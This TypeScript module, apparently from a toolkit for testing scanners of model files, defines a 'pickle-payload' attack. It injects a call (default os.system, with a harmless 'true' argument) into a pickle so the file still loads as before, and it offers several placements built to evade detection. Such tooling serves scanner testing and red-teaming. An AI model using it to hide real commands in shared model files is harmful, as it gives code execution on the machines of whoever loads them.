import { z } from 'zod'
import { modelAttack } from '../../core/index.ts'
import { behind, broken, inFront, isPickle, shapeNames, shapes } from './opcodes.ts'

/** Puts a call into a pickle that still loads as before: the oldest and most used attack on model files. */
export default modelAttack({
  id: 'pickle-payload',
  title: 'A call hidden in a pickle',
  threat: 'model-file-malware',
  source: 'Marco Slaviero: Sour Pickles, Black Hat USA 2011; and the advisories on scanners of pickles since 2025',
  input: { model: ['pickle'] },
  options: z.object({
    call: z
      .string()
      .regex(/^[\w.]+\.\w+$/)
      .default('os.system')
      .describe('What is called, as `module.name`.'),
    argument: z.string().max(200).default('true').describe('Its only argument: a text that does nothing.'),
    shape: z.enum(shapeNames).default('reduce').describe('Opcodes that make the call.'),
    place: z
      .enum(['front', 'behind', 'broken'])
      .default('front')
      .describe('In front of the first value, as a stream of its own, or in front with broken bytes behind it.'),
    discard: z.boolean().default(true).describe('Throw the result away, so that the host loads as before.'),
  }),

  corrupt({ call, argument, shape, place, discard }, host) {
    const found = Object.entries(host).find(([, data]) => isPickle(data))
    if (!found) return null
    const [file, data] = found
    const dot = call.lastIndexOf('.')
    const payload = shapes[shape]({ module: call.slice(0, dot), name: call.slice(dot + 1), argument })
    const poisoned =
      place === 'front'
        ? inFront(data, payload, discard)
        : place === 'behind'
          ? behind(data, payload)
          : broken(data, payload)
    return { files: { ...host, [file]: poisoned }, file, names: [call, call.slice(dot + 1)] }
  },
})
